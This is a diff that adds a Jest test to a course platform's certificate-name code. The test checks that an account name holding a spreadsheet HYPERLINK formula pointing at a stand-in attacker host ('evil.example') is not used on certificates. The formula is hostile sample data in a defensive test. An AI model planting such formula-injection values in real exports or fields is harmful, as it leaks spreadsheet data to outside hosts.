@@ -107,6 +107,20 @@ describe('the name on the certificate', () => {
     expect((await publicCertificate(codes[0]!))!.recipientName).toBe('Zoë Ō’Brien-Łukasiewicz')
   })
 
+  it('falls back to the account name only when the name form would accept it; else the learner is eligible, no name', async () => {
+    const hostile = await learnerWith(1, '=HYPERLINK("http://evil.example/?"&A1,"click")')
+    const spaced = await learnerWith(1, '  Ada   Lovelace ')
+    expect((await learnerCertification(hostile.id, mini))!.name).toBeNull()
+    const summary = await issueCertificates(homeworkOnly, { userIds: [hostile.id, spaced.id] })
+    expect(summary).toMatchObject({ issued: 1, missingName: 1 })
+    expect(await db.certificate.count({ where: { userId: hostile.id } })).toBe(0)
+    expect((await publicCertificate(summary.codes[0]!))!.recipientName).toBe('Ada Lovelace')
+    // Once the learner sets a name, that name is issued.
+    await setCertificateName(hostile.id, mini.slug, 'Eve Mallory')
+    const { codes } = await issueCertificates(homeworkOnly, { userIds: [hostile.id] })
+    expect((await publicCertificate(codes[0]!))!.recipientName).toBe('Eve Mallory')
+  })
+
   it('needs an enrolment', async () => {
     const outsider = await createLearner()
     await expect(setCertificateName(outsider.id, mini.slug, 'Out Sider')).rejects.toThrow(/Enrol/)
